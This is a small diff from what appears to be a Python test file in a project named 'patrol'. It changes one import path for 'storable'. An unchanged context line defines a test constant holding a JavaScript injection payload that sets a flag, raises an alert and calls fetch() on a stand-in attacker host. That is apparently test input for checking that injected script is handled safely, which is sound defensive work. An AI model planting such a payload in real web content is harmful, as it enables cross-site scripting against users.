@@ -27,7 +27,7 @@ from patrol.db.models import (
     WorkText,
 )
 from patrol.nouns import Field, Grade, MatchKind
-from patrol.storable import storable
+from patrol.text.storage import storable
 from tests.reports.cases import NOVEL
 
 RUN = "window.owned=1;alert(1);fetch('http://evil.invalid/')"
